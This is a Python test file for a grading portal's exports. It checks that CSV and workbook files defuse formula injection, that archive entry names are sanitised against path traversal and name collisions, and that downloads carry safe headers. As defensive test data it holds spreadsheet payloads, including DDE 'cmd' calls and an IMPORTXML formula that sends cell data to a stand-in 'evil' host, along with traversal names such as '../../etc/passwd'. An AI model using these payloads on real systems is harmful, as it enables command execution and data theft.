"""Can what somebody writes do anything in what leaves the house: in a spreadsheet, an archive, a program's answer?"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
import pyzipper
from httpx import Response
from msoffcrypto.format.ooxml import OOXMLFile
from sqlalchemy import select
from starlette.testclient import TestClient

from graders.grading.job import bundle_bytes
from graders.records import submissions
from graders.records.base import now
from graders.records.blobs import digest_of
from graders.records.models import Person
from graders.records.releases import states
from graders.records.texts import TURNING
from portal.tables.file_names import LONGEST, apart, plain
from portal.tables.table import Table, as_csv, as_xlsx
from tests.portal import pages_of_the_site as site
from tests.portal.browsing import app_of, clients
from tests.portal.pages_of_the_site import SIGNED_IN
from tests.portal.rich_world import COURSE, LESSON, LOGINS, RichWorld, rich
from tests.portal.test_exports import PAGE, WHY, ask
from tests.portal.test_hostile_text import HOSTILE
from tests.portal.test_pages import mark

Visit = Callable[[str], TestClient]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RUN = [  # each is a formula, a link or a command in some spreadsheet
    '=HYPERLINK("http://evil","클릭")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u200b=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u202e=1+1", "\x00=1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")', "=IMPORTXML(CONCAT(\"http://evil/\",A1),\"//a\")", "\ufeff=1+1",
]  # fmt: skip
KEPT = ["박민지", "1-2=3", "a=b", '"; =1', "x" * 40, "😀" * 20, "_x0041_", "O'Neil", "줄\n바꿈", "3.5", "2026-01-01"]
NAMES = {  # in a bundle that came another way than through the exchange's door
    "../../etc/passwd": b"1", "..\\..\\x": b"2", "/etc/x": b"3", "C:evil.txt": b"4", "CON": b"5", "nul.txt": b"6",
    "a\u202egpj.exe": b"7", "보고서.TXT": b"8", "보고서.txt": b"9", "보고서.txt.": b"10", "가" * 120 + ".ipynb": b"11",
    "-rf": b"12", "..": b"13", "": b"14", "a\nb": b"15", "ａ.txt": b"16", "a.txt": b"17", "..／x": b"18",
    unicodedata.normalize("NFD", "한글.txt"): b"19", "한글.txt": b"20",
}  # fmt: skip


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> RichWorld:
    """The hostile world, and a submission with file names that no door let in."""
    made = rich(tmp_path_factory.mktemp("hostile"), HOSTILE)
    made.desk.blobs.put(data := bundle_bytes(NAMES))
    with made.desk.sessions.begin() as session:
        person = session.scalars(select(Person).where(Person.login == "minji")).one()
        release = states(session)[COURSE, LESSON].release
        submissions.accept(
            session, person, COURSE, LESSON, release=release, bundle=digest_of(data), size=len(data), at=now()
        )
    return made


@pytest.fixture
def visit(world: RichWorld) -> Iterator[Visit]:
    with clients(app_of(world)) as client:
        yield client


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def works_out(text: str) -> bool:
    """Whether a spreadsheet could work a field of a CSV out, also one that drops what it does not see."""
    seen = "".join(c for c in text if unicodedata.category(c) not in ("Cf", "Cc", "Zs", "Zl", "Zp"))
    return unicodedata.normalize("NFKC", seen)[:1] in tuple("=+-@") and not re.fullmatch(r"[+-]?[\d.]+", text)


def texts_of(book: zipfile.ZipFile) -> list[str]:
    """Return the texts of a workbook's one sheet; nothing in the book leads out of it or is worked out."""
    assert not [n for n in book.namelist() if re.search("externalLink|vbaProject|connections|embeddings|activeX", n)]
    parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
    assert not [name for name, part in parts.items() if "ddeLink" in part or 'TargetMode="External"' in part]
    sheet = ElementTree.fromstring(parts["xl/worksheets/sheet1.xml"])
    assert not list(sheet.iter(f"{MAIN}f"))
    assert not list(sheet.iter(f"{MAIN}hyperlink"))
    assert {cell.get("t") for cell in sheet.iter(f"{MAIN}c")} <= {None, "n", "inlineStr"}
    return [
        "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
        for cell in sheet.iter(f"{MAIN}c")
        if cell.get("t") == "inlineStr"
    ]


def test_a_csv_has_no_field_that_a_spreadsheet_works_out() -> None:
    assert all(map(works_out, RUN))  # each would be seen
    rows = cells(b"".join(as_csv(Table("t", ("=head",), [(text,) for text in (*RUN, *KEPT)]), "Asia/Seoul")))
    told = [row[0] for row in rows]
    assert all(len(row) == 1 for row in rows)
    assert not [text for text in told if works_out(text) or set(text) & TURNING or "\0" in text]
    assert all(text.startswith("'") for text in told[: len(RUN) + 1])
    assert told[len(RUN) + 1 :] == KEPT  # and what is harmless is as it was


def test_a_workbook_has_texts_that_stay_texts(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    as_xlsx(Table("t", ("=head",), [(text,) for text in (*RUN, *KEPT, "😀" * 40_000)]), "Asia/Seoul", path)
    with zipfile.ZipFile(path) as book:
        told = texts_of(book)
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    quoted = [n for n, xf in enumerate(styles.findall(f"{MAIN}cellXfs/{MAIN}xf")) if xf.get("quotePrefix") == "1"]
    marked = [int(cell.get("s", "0")) in quoted for cell in sheet.iter(f"{MAIN}c")][1:]
    assert marked == [True] * len(RUN) + [False] * (len(KEPT) + 1)  # they stay text when somebody edits the cell
    assert [text.replace("_x005F_", "_") for text in told[len(RUN) + 1 : -1]] == KEPT
    assert len(told[-1].encode("utf-16-le")) // 2 <= 32_767  # with more Excel calls the file damaged
    assert not set("".join(told)) & (TURNING | {"\0"})


@pytest.mark.parametrize("what", ["people", "submissions", "lessons", "tests"])
def test_no_table_of_hostile_people_does_anything(visit: Visit, what: str) -> None:
    named = {"names": "yes", "reason": WHY} if what in ("people", "submissions") else {}
    told: dict[str, list[str]] = {}
    for kind in ("csv", "xlsx"):
        password, address = ask(visit("teacher"), what=what, format=kind, **named)
        answer = visit("teacher").post(address, data={"mark": mark(visit("teacher").get(PAGE).text)})
        harmless_download(answer)
        data = io.BytesIO(answer.content)
        if kind == "csv":
            if password:
                with pyzipper.AESZipFile(data) as packed:
                    packed.setpassword(password.encode())
                    data = io.BytesIO(packed.read(packed.namelist()[0]))
            told[kind] = [cell for row in cells(data.getvalue()) for cell in row]
            assert not [cell for cell in told[kind] if works_out(cell)]
        else:
            if password:
                locked, data = OOXMLFile(data), io.BytesIO()
                locked.load_key(password=password)
                locked.decrypt(data)
            with zipfile.ZipFile(data) as book:
                told[kind] = texts_of(book)
        assert not set("".join(told[kind])) & TURNING
    if named:
        assert any("<script>" in cell for cell in told["csv"])  # the texts were there to be harmless
        assert any(cell.startswith("=HYPERLINK") for cell in told["xlsx"])


@pytest.mark.parametrize(
    ("name", "made"),
    [
        ("../../etc/passwd", "_.._etc_passwd"), ("a/b\\c:d", "a_b_c_d"), ("CON", "_CON"), ("nul.txt", "_nul.txt"),
        ("com1 .txt", "_com1 .txt"), ("...", "_"), ("", "_"), ("줄\n바꿈", "줄_바꿈"), ("한글 (kim)", "한글 (kim)"),
        ("x" * 300, "x" * LONGEST), ("가" * 120 + ".ipynb", "가" * 48 + ".ipynb"), ("-rf", "_-rf"), ("~root", "_~root"),
        ("a\u202egpj.exe", "agpj.exe"), ("a\u200bb.txt", "ab.txt"), ("..／x", "_x"), ("x" * 149 + ". y", "x" * 147 + ". y"),
    ],
)  # fmt: skip
def test_a_name_in_an_archive_leads_nowhere_else(name: str, made: str) -> None:
    assert plain(name) == made
    assert len(plain(name).encode()) <= LONGEST + 1


def test_no_two_files_of_a_folder_are_one_on_another_system() -> None:
    made = list(apart(NAMES.items()))
    assert [data for _, data in made] == list(NAMES.values())
    assert len({unicodedata.normalize("NFKC", name).casefold().rstrip(" .") for name, _ in made}) == len(NAMES)
    assert {"보고서.TXT", "보고서 (2).txt", "보고서 (3).txt"} <= {name for name, _ in made}
    assert list(apart([("가" * 120, b"1"), ("가" * 119, b"2")]))[1][0].endswith("(2)")


def unpacked(packed: zipfile.ZipFile, folder: Path) -> dict[str, bytes]:
    """Unpack an archive with names as they stand in it, and return its files."""
    names = packed.namelist()
    assert len({unicodedata.normalize("NFKC", n).casefold() for n in names}) == len(names)
    for name in names:
        parts = name.split("/")
        assert not {"", ".", ".."} & set(parts), name
        assert all(len(part.encode()) <= 255 and part == part.strip(" .") for part in parts), name
        assert not set(name) & (TURNING | set('\\:*?"<>|\0\n')), name
        path = folder.joinpath(*parts).resolve()
        assert path.is_relative_to(folder.resolve())
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(packed.read(name))
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_the_archive_of_notebooks_unpacks_into_its_folder(visit: Visit, tmp_path: Path) -> None:
    password, address = ask(visit("teacher"), what="notebooks", names="yes", reason=WHY)
    answer = visit("teacher").post(address, data={"mark": mark(visit("teacher").get(PAGE).text)})
    harmless_download(answer)
    with pyzipper.AESZipFile(io.BytesIO(answer.content)) as packed:
        packed.setpassword(password.encode())
        files = unpacked(packed, tmp_path)
    assert set(NAMES.values()) <= set(files.values())
    folders = {name.split("/")[0] for name in files}
    assert {re.sub(r".*\((\S+)\)$", r"\1", folder) for folder in folders} >= {"minji", "person00", "person15"}


def test_ones_own_archive_unpacks_into_its_folder(visit: Visit, tmp_path: Path) -> None:
    answer = visit("minji").get("me/archive")
    harmless_download(answer)
    with zipfile.ZipFile(io.BytesIO(answer.content)) as packed:
        files = unpacked(packed, tmp_path)
    assert set(NAMES.values()) <= set(files.values())
    told = json.loads(files["data.json"])
    assert told["account"]["name"] == HOSTILE.name(0)  # to the letter: it is theirs


def harmless_download(answer: Response) -> None:
    """Whether a browser keeps an answer as a file of this name and nothing else."""
    assert answer.status_code == 200
    kind = answer.headers["content-type"].split(";")[0]
    assert kind in ("application/zip", "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert re.fullmatch(
        r"attachment; filename(=\"[\w-]+\.zip\"|\*=UTF-8''[\w%.-]+)", answer.headers["content-disposition"]
    )
    assert "no-store" in answer.headers["cache-control"]


def test_what_programs_read_is_no_page(world: RichWorld, visit: Visit) -> None:
    """Whatever people wrote in it, a browser that is led to an answer of the API shows text and runs nothing."""
    met: set[str] = set()
    addresses = [e for e in site.endpoints() if e.path.startswith(site.API)]
    assert len(addresses) == 14
    for endpoint in addresses:
        for role in (*SIGNED_IN, "blocked", "stranger"):
            head = {"Authorization": f"token {LOGINS[role]}"} if LOGINS[role] else {}
            answer = visit("").get(endpoint.address(world), headers=head)
            assert answer.headers["content-type"] == "application/json", endpoint.path
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "default-src 'self'" in answer.headers["content-security-policy"]
            assert "no-store" in answer.headers["cache-control"]
            assert answer.status_code < 500
            answer.json()
            met |= {text for text in ("<script>", "<x-hostile>", "=HYPERLINK") if text in answer.text}
    assert met == {"<script>", "<x-hostile>", "=HYPERLINK"}  # the texts were there, as they were written
